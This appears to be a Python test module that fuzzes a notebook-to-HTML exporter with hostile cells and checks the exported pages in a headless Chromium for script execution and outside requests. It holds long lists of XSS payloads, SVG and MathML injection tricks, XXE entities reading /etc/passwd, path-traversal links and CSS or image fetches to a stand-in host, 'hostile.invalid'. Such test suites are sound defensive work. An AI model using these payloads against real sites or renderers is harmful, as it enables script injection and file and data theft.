"""Notebooks that mean harm: cells and outputs by kind, many in one notebook, exported without a kernel and looked at in Chromium."""

import base64
import json
import random
import tempfile
import time
import traceback
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from quickview.errors import QuickViewError
from quickview.report.exporters import QuickViewHTMLExporter
from quickview.report.outputs import BLOCK, DESK, FIGURE, PLOTLY, WIDGET, WIDGET_STATE, WORDS
from quickview.report.reading import read_outline
from tests.hostile.checking import CONTROLS, LONGEST

HOST = "http://hostile.invalid"
CELLS = 40
"""In one notebook."""
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'
ACTS = "window.ran=1"

HTML = (
    f"<script>{ACTS}</script>", f"<script src='{HOST}/a.js'></script>", f"<scr<script>ipt>{ACTS}</script>", f"<img src={HOST}/a.png>", f"<img src=x onerror={ACTS}>", f"<img srcset='{HOST}/a.png 2x' alt=a>",
    f"<picture><source srcset='{HOST}/a.png'><img alt=a src='data:image/png;base64,{PNG}'></picture>", f"<iframe src='{HOST}'></iframe>", f"<iframe srcdoc='<script>parent.{ACTS}</script>'></iframe>",
    f"<form action='{HOST}'><input autofocus onfocus={ACTS}></form>", f"<base href='{HOST}/'>", f"<meta http-equiv=refresh content='0;url={HOST}/r'>", f"<link rel=stylesheet href='{HOST}/a.css'>", f"<link rel=prefetch href='{HOST}/p'>",
    f"<style>@import url({HOST}/a.css);body{{display:none}}</style>", f"<style>td{{background:url({HOST}/b.png)}}</style><table><tr><td>1</td></tr></table>", f"<b style='background:url({HOST}/c.png)'>b</b>", f"<b style='background-image:image-set(\"{HOST}/c.png\" 1x)'>b</b>",
    "<b style='position:fixed;inset:0'>b</b>", f"<table background='{HOST}/d.png'><tr><td>1</td></tr></table>", f"<video src='{HOST}/v' autoplay poster='{HOST}/p'></video>", f"<audio src='{HOST}/a' autoplay></audio>", f"<object data='{HOST}/o'></object>", f"<embed src='{HOST}/e'>",
    f"<a href='javascript:{ACTS}'>a</a>", f"<a href='data:text/html,<script>{ACTS}</script>'>a</a>", f"<a href='&#106;avascript:{ACTS}'>a</a>", f"<a href='java\nscript:{ACTS}'>a</a>", f"<a href='{HOST}' ping='{HOST}/ping' target=_blank>a</a>", "<a href='file:///etc/passwd'>a</a>",
    f"<svg onload={ACTS}><script>{ACTS}</script></svg>", f"<svg><image href='{HOST}/a.png'/></svg>", f"<svg><foreignObject><iframe src='{HOST}'/></foreignObject></svg>", "<svg><a href='javascript:x'><text>a</text></a></svg>", "<svg", "<svg></svg><svg/>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{ACTS}'>x</maction></math>", f"<math><mtext><table><mglyph><style><img src=x onerror={ACTS}></style></mglyph></table></mtext></math>", f"<details open ontoggle={ACTS}>d</details>",
    f"<noscript><p title='</noscript><img src=x onerror={ACTS}>'></noscript>", f"<template><script>{ACTS}</script></template>", f"<xmp><script>{ACTS}</script></xmp>", f"<textarea></textarea><script>{ACTS}</script>", f"<!--><script>{ACTS}</script>-->", f"<!-- --!><script>{ACTS}</script>",
    f"</div></main></body><script>{ACTS}</script>", "<plaintext>", f"<title></title><style><!--</style><img src=x onerror={ACTS}>", "<marquee>m</marquee>", "<dialog open>d</dialog>", "<h1 id=masthead class=report>h</h1>", "<p id='c1w' class='wake awake'>p</p>",
    "<div hidden>h</div>", "<table>" + "<tr><td>" * 60, "<div>" * 3_000, "<table><tr><td colspan=99999999999 rowspan=-1>1</td></tr></table>", "<table><caption><script></caption></table>", "<ol start=99999999999999999999><li>a</ol>", "<p>{{ 7*7 }} {% raw %} %s {}</p>", "\x00\x01", "\ud800", "x\u202ey", "",
)  # fmt: skip
MARKDOWN = (
    *HTML, "[@nope]", "[@", "[@paper]", "[@fig-nope]", "![a](attachment:a.png)", "![a](attachment:a.svg)", "![a](attachment:nope)", "![](attachment:../../etc/passwd)", f"![a]({HOST}/a.png)", "![a](//hostile.invalid/a.png)", "![a](\\\\hostile.invalid\\a.png)",
    "![a](file:///etc/passwd)", "![a](/etc/hostname.png)", "![a](../../../../etc/passwd)", "![a](data:text/html;base64,PHNjcmlwdD4=)", f"![a](data:image/png;base64,{PNG})", "![a](data:image/svg+xml;base64,PHN2Zy8+)", "![a](data:image/svg+xml,<svg/>)", "![a](con.png)", "![a](%00.png)", "![a](" + "a" * 5_000 + ".png)",
    "[a](javascript:x)", "[a](data:text/html,x)", "[a](vbscript:x)", "[a](JaVaScRiPt:x)", "<javascript:x>", f"<{HOST}>", "[a]: javascript:x\n\n[a]", "[^1]\n\n[^1]: a\n\n", "[^1]", "$\\frac{$", "$\\href{javascript:x}{y}$", "$\\class{x}{y}$", "$\\unicode{x}$", "$$" + "{" * 500 + "$$", "$x$" * 200, "\\begin{align}a\\end{align}",
    "> " * 200 + "a", "- " * 200 + "a", "*a " * 500, "[" * 500, "`" * 500, "|a|\n|-|\n" + "|b|\n" * 200, "# a\n" * 50, "## a\n\n```\n## b\n", "{attach}", "{{ a }}", "<a b='", "&#x202e;", "&#0;", "a\\\n" * 50,
)  # fmt: skip
SVGS = tuple(SVG.format(inner) for inner in (  # noqa: RUF005 (a tuple made of a generator, and one as it is)
    f"<script>{ACTS}</script><rect/>", f"<rect onload='{ACTS}' onclick='{ACTS}'/>", "<a xlink:href='javascript:x'><rect/></a>", f"<image xlink:href='{HOST}/a.png'/>", f"<use href='{HOST}/a.svg#x'/>", f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='{HOST}'/></body></foreignObject>",
    f"<style>@import '{HOST}/a.css';rect{{fill:url({HOST}/a#b)}}</style><rect/>", f"<rect fill='url({HOST}/a#b)' filter='url(\"{HOST}/f\")'/>", f"<animate attributeName='href' to='{HOST}'/>", f"<set attributeName='onload' to='{ACTS}'/>", f"<feImage href='{HOST}/a'/>", f"<image href='data:image/svg+xml,&lt;svg onload=\"{ACTS}\"/&gt;'/>",
    f"<style>rect{{fill:u\\72l({HOST}/a)}}</style><rect/>", f"<rect style='fill:u\\72l({HOST}/a)'/>", f"<style>@im\\70ort '{HOST}/a.css';</style><rect/>", "<g>" * 300 + "</g>" * 300, "<g><", f"<handler xmlns='http://www.w3.org/2001/xml-events'>{ACTS}</handler><rect/>",
)) + (
    "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]>" + SVG.format("<text>&b;</text>"), f"<!DOCTYPE svg SYSTEM '{HOST}/a.dtd'>" + SVG.format("<rect/>"), "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + SVG.format("<text>&x;</text>"),
    f"<?xml-stylesheet href='{HOST}/a.css'?>" + SVG.format("<rect/>"), "<svg>", "", "x", "<html/>", SVG.format("<rect/>").replace("<svg", "<s:svg xmlns:s='http://www.w3.org/2000/svg'").replace("</svg>", "</s:svg>"), "\ufeff" + SVG.format("<rect/>"), SVG.format("<text>\x00</text>"),
)  # fmt: skip
LABELS = (f"<a href='javascript:{ACTS}'>a</a>", f"<a href='{HOST}'>a</a>", f"<img src='{HOST}/a.png'>", f"<b onclick='{ACTS}'>b</b>", f"<script>{ACTS}</script>", "</script><script>", "$x^2$", "<br>" * 50, "x" * 5_000, "\u202ex", "{{ a }}", "\x00", "]]>", "%{x", "%{customdata[99]}", "<sup>")  # fmt: skip
ODD = (
    None,
    True,
    0,
    -1,
    1e308,
    float("nan"),
    float("inf"),
    "",
    "x",
    [],
    [[]],
    {},
    {"a": 1},
    [None],
    ["x" * 300],
    {"": {"": {}}},
    "<b>",
    "2020-01-01",
)
FORMS = ("text/html", "text/plain", "text/markdown", "text/latex", "application/json", "application/javascript", "application/pdf", "image/png", "image/jpeg", "image/svg+xml", "image/bmp", "image/x-icon", "IMAGE/PNG", "image/png; charset=x", "text/html; charset=utf-8", "text/x", "video/mp4", "application/x-nbviewer",
         "application/vnd.vegalite.v5+json", "application/vnd.vega.v5+json", "application/vnd.jupyter.es6-rich-output", "application/geo+json", "application/vnd.bokehjs_exec.v0+json", BLOCK, DESK, FIGURE, PLOTLY, WIDGET, WORDS, "", "x", "a/b" * 100)  # fmt: skip


def shown(data, **metadata):
    """Return an output as a notebook stores it."""
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def _html(chance):
    return [
        shown(
            {
                "text/html": "".join(chance.choice(HTML) for _ in range(chance.randint(1, 2))) + "marker",
                "text/plain": "<x>",
            }
        )
    ]


def _svg(chance):
    return [shown({"image/svg+xml": chance.choice(SVGS)})]


def _picture(chance):
    form = chance.choice(("image/png", "image/jpeg", "image/gif", "image/webp"))
    data = chance.choice(
        (
            PNG,
            "",
            "!!!",
            "data:image/png;base64," + PNG,
            base64.b64encode(b"<html>").decode(),
            PNG[:9],
            [PNG[:8], PNG[8:]],
            base64.b64encode(b"RIFFxxxx<svg onload=x>").decode(),
        )
    )
    return [
        shown(
            {form: data},
            **{
                form: chance.choice(
                    ({"width": chance.choice(ODD), "height": "9' onload='x"}, {"alt": chance.choice(LABELS)}, {})
                )
            },
        )
    ]


def _odd(chance):
    return [
        shown(
            {chance.choice(FORMS): chance.choice(ODD) for _ in range(chance.randint(1, 2))},
            **chance.choice(({}, {"a": 1}, {"image/png": {"alt": []}})),
        )
    ]


def _plotly(chance):
    label = chance.choice(LABELS)
    trace = {
        "type": chance.choice(
            (
                "scatter",
                "bar",
                "pie",
                "table",
                "sankey",
                "heatmap",
                "treemap",
                "scattergeo",
                "choropleth",
                "image",
                "x",
                "scattermapbox",
                "indicator",
            )
        ),
        "x": [1, 2],
        "y": [label, 3],
        "text": label,
        "name": label,
        "hovertemplate": label,
        "labels": [label],
        "values": [1],
        "value": 3,
    }
    layout = {
        "title": {"text": label},
        "xaxis": {"title": {"text": label}, "ticktext": [label], "tickvals": [1]},
        "annotations": [{"text": label, "x": 1, "y": 1}],
        "meta": {"alt": label, "caption": label, "id": label[:20]},
    }
    spec = {"data": [trace], "layout": layout}
    where = chance.choice((spec, trace, layout, layout["meta"]))
    if chance.random() < 0.6:
        where[
            chance.choice(
                [
                    *where,
                    "images",
                    "template",
                    "updatemenus",
                    "sliders",
                    "frames",
                    "config",
                    "height",
                    "margin",
                    "legend",
                    "shapes",
                    "narrow",
                    "kind",
                    "sources",
                    "table",
                    "coloraxis",
                    "whole",
                    "source",
                ]
            )
        ] = chance.choice(
            (*ODD, [{"source": f"{HOST}/a.png"}], {"layout": {"images": [{"source": f"{HOST}/a.png"}]}}, label)
        )
    return [shown({PLOTLY: spec})]


def _kit(chance):
    """Return what looks like an output of the kit's own."""
    page = chance.choice(HTML) + "marker"
    return [shown(chance.choice((
        {BLOCK: {"id": chance.choice(("own", "masthead", "sources", "further", "<b>")), "empty": False, "data": chance.choice(({}, *ODD))}, "text/html": page},
        {FIGURE: {"id": chance.choice(LABELS), "title": chance.choice(LABELS), "alt": "a", "caption": chance.choice(LABELS), "sources": chance.choice((["nope"], *ODD)), "table": chance.choice(ODD)}, "text/html": page},
        {BLOCK: chance.choice(ODD), "text/html": page}, {WORDS: chance.choice(ODD)}, {DESK: chance.choice(ODD), "text/html": page}, {FIGURE: chance.choice(ODD), "image/png": PNG},
    )))]  # fmt: skip


def _widget(chance):
    known = {"model_id": chance.choice(list(STATES))}
    return [shown({WIDGET: known if chance.random() < 0.8 else chance.choice(ODD)})]


def _stream(chance):
    text = chance.choice(
        (
            *HTML,
            *LABELS,
            "\x1b[31mred\x1b]8;;http://hostile.invalid\x07link\x1b]8;;\x07",
            "x" * 50_000,
            "a\rb\r\n" * 500,
            ODD[3],
        )
    )
    return [
        chance.choice(
            (
                {"output_type": "stream", "name": chance.choice(("stdout", "stderr", "x")), "text": text},
                {"output_type": "error", "ename": str(text)[:50], "evalue": str(text), "traceback": [str(text)]},
                {"output_type": "update_display_data", "data": {}, "metadata": {}},
            )
        )
    ]


STATES = {
    "html": {"model_name": "HTMLModel", "state": {"value": f"<script>{ACTS}</script>marker"}},
    "link": {"model_name": "HTMLModel", "state": {"value": f"<a href='javascript:{ACTS}'>marker</a>"}},
    "label": {"model_name": "LabelModel", "state": {"value": "<script>"}},
    "self": {"model_name": "VBoxModel", "state": {"children": ["IPY_MODEL_self", "IPY_MODEL_label"]}},
    "many": {"model_name": "VBoxModel", "state": {"children": ["IPY_MODEL_many2"] * 9}},
    "many2": {"model_name": "VBoxModel", "state": {"children": ["IPY_MODEL_many3"] * 9}},
    "many3": {"model_name": "VBoxModel", "state": {"children": ["IPY_MODEL_label"] * 9}},
    "tabs": {"model_name": "TabModel", "state": {"children": ["IPY_MODEL_label"], "titles": [f"<img src={HOST}/a>", 5]}},
    "image": {"model_name": "ImageModel", "state": {"format": "svg+xml"}, "buffers": [{"path": ["value"], "data": "PHN2Zy8+"}]},
    "drawn": {"model_name": "X", "state": {"_data_url": "data:image/png;base64,AAAA"}},
    "plotly": {"model_name": "FigureModel", "state": {"_widget_data": [{"type": "scatter", "x": [1], "y": ["<a href='javascript:x'>a</a>"]}], "_widget_layout": {}}},
    "plotly2": {"model_name": "FigureModel", "state": {"_widget_data": 5}, "buffers": [{"path": ["_widget_data", 0, "x"], "data": "AA=="}]},
    "output": {"model_name": "OutputModel", "state": {"outputs": [shown({"text/html": f"<script>{ACTS}</script>"})]}},
    "output2": {"model_name": "OutputModel", "state": {"outputs": [shown({WIDGET: {"model_id": "output2"}}), 5]}},
    "none": {"model_name": None, "state": None}, "list": {"state": []}, "text": {"model_name": "TextModel"}, "children": {"state": {"children": 5}}, "titles": {"state": {"children": [None], "titles": 5}}, "five": 5,
}  # fmt: skip

OUTPUTS = {
    "HTML": _html,
    "drawings": _svg,
    "pictures": _picture,
    "odd forms": _odd,
    "plotly": _plotly,
    "the kit's own": _kit,
    "widgets": _widget,
    "streams": _stream,
}
ATTACHED = (
    {"a.png": {"image/png": PNG}}, {"a.png": {"text/html": "<script>"}}, {"a.png": {"image/png": base64.b64encode(b"<html>").decode()}}, {"a.svg": {"image/svg+xml": SVGS[0]}}, {"a.svg": {"image/svg+xml": base64.b64encode(SVGS[1].encode()).decode()}},
    {"a.png": {"image/bmp": PNG}}, {"a.png": {}}, {"a.png": 5}, {"a.png": {"image/png": None}}, {"a.png": {"image/png": [PNG]}}, 5, [], "x", None,
)  # fmt: skip


def _markdown(chance):
    pieces = chance.choice(("\n\n", " ", "")).join(chance.choice(MARKDOWN) for _ in range(chance.randint(1, 3)))
    cell = new_markdown_cell(chance.choice(("marker ", "")) + pieces)
    return nbformat.from_dict(cell | chance.choice(({}, {"attachments": chance.choice(ATTACHED)})))


def _raw(chance):
    return nbformat.v4.new_raw_cell(chance.choice(HTML))


def _metadata(chance):
    cell = (
        new_markdown_cell("marker")
        if chance.random() < 0.5
        else new_code_cell("x", execution_count=1, outputs=[shown({"text/html": "<p>marker</p>"})])
    )
    cell["metadata"] = nbformat.from_dict(
        {
            chance.choice(("tags", "name", "papermill", "x")): chance.choice(
                (*ODD, ["remove-cell", 5], ["parameters"], {"parameters": 1})
            )
        }
    )
    return cell


def _shown(kind):
    return lambda chance: nbformat.from_dict(new_code_cell("x", execution_count=1) | {"outputs": OUTPUTS[kind](chance)})


KINDS = {"Markdown": _markdown, "raw": _raw, "metadata": _metadata, **{name: _shown(name) for name in OUTPUTS}}


@dataclass
class Answer:
    """What came of one cell: what it is, whether it was shown, warned of or refused, and what is wrong with that."""

    kind: str
    outcome: str
    wrongs: list = field(default_factory=list)
    seconds: float = 0.0
    detail: str = ""


def notebook(cells):
    """Return a notebook of cells, with states of widgets."""
    return nbformat.from_dict(new_notebook(metadata={"widgets": {WIDGET_STATE: {"state": STATES}}}) | {"cells": cells})


def answer(kind, cell):
    """Return what reading one cell comes to."""
    began = time.process_time()
    try:
        outline = read_outline(notebook([cell]))
        outcome, told = ("warned", outline.warnings) if outline.warnings else ("shown", [])
        page = exported([cell], static=True)
        if not told and says(cell) and "marker" not in page:
            outcome = "lost"
    except QuickViewError as error:
        outcome, told, outline = "refused", str(error).splitlines(), None
    except Exception:  # noqa: BLE001 (whatever falls is told)
        return Answer(
            kind,
            "fell",
            ["traceback"],
            time.process_time() - began,
            traceback.format_exc()[-900:] + "\n" + json.dumps(cell)[:600],
        )
    seconds = time.process_time() - began
    wrongs = ["lost"] * (outcome == "lost") + ["slow"] * (seconds > 1) + ["a long line"] * any(len(one) > LONGEST for one in told) + ["a sign"] * any(CONTROLS.search(one) for one in told)  # fmt: skip
    return Answer(kind, outcome, wrongs, seconds, json.dumps(cell)[:900] + str(told)[:300] if wrongs else "")


def says(cell):
    """Whether a cell shows a word that a reader would miss, if it were gone."""
    said = json.dumps(cell.get("outputs") or cell.source)
    return (
        "marker" in said
        and "remove-cell" not in str(cell.metadata)
        and not any(silent in said for silent in (DESK, WORDS, '"further"'))
    )


def cells_of(number, seed, only=""):
    """Return the cells of one notebook, with their kinds."""
    chance = random.Random(f"{seed}-{number}")
    names = [name for name in KINDS if only in name]
    return [(name, KINDS[name](chance)) for name in (chance.choice(names) for _ in range(CELLS))]


def exported(cells, **options):
    """Return the page of cells that may stand in one."""
    return QuickViewHTMLExporter(paint=False, **options).from_notebook_node(notebook(cells))[0]


LOOK = """() => ({
  ran: window.ran, title: document.title,
  strange: [...document.querySelectorAll(':is(.head, main) :is(script, iframe, form, base, link, meta, object, embed, video, audio, style:not(svg style), input)')].map(e => e.outerHTML.slice(0, 200)),
  handlers: [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^on/i.test(a.name)).map(a => a.name + a.value),
  links: [...document.querySelectorAll('a[href], area[href]')].map(a => a.protocol).filter(p => !['file:', 'http:', 'https:', 'mailto:', 'data:'].includes(p)),
  policy: document.querySelector('head meta[http-equiv=Content-Security-Policy]') !== null,
})"""  # fmt: skip


def seen(page, path, scripts):
    """Return what is wrong with a page that is opened: what ran, what it asked for, what it holds."""
    asked = []

    def ask(route):
        if route.request.url.startswith(("file:", "data:", "blob:")):
            route.continue_()
        else:
            asked.append(route.request.url)
            route.abort()

    page.route("**/*", ask)
    page.goto(path.as_uri())
    for button in page.locator(".wake").all() if scripts else ():
        button.press("Enter")
    page.wait_for_timeout(300)
    found = page.evaluate(LOOK)
    page.unroute("**/*")
    wrong = {name: found[name] for name in ("ran", "strange", "handlers", "links") if found[name]}
    return wrong | ({"asked": asked} if asked else {}) | ({} if found["policy"] else {"policy": "none"})


def campaign(count, seed=1, *, only="", browser=None):
    """Read so many notebooks cell by cell, then export and open what stands of each; yields the answers of cells, and of pages."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as folder:
        page = browser.new_page() if browser else None
        for number in range(count):
            answers = [(cell, answer(kind, cell)) for kind, cell in cells_of(number, seed, only)]
            yield from (one for _, one in answers)
            kept = [cell for cell, one in answers if one.outcome in {"shown", "warned"}]
            yield from (
                _page(kept, page, Path(folder) / f"{number}.html", scripts=scripts) for scripts in (True, False)
            )


def _page(kept, page, path, *, scripts):
    try:
        path.write_text(exported(kept, static=not scripts), encoding="utf-8")
        wrong = seen(page, path, scripts) if page else {}
    except Exception:  # noqa: BLE001 (whatever falls is told)
        return Answer("page", "fell", ["traceback"], detail=traceback.format_exc()[-900:])
    return Answer("page", "opened" if page else "made", list(wrong), detail=str(wrong))
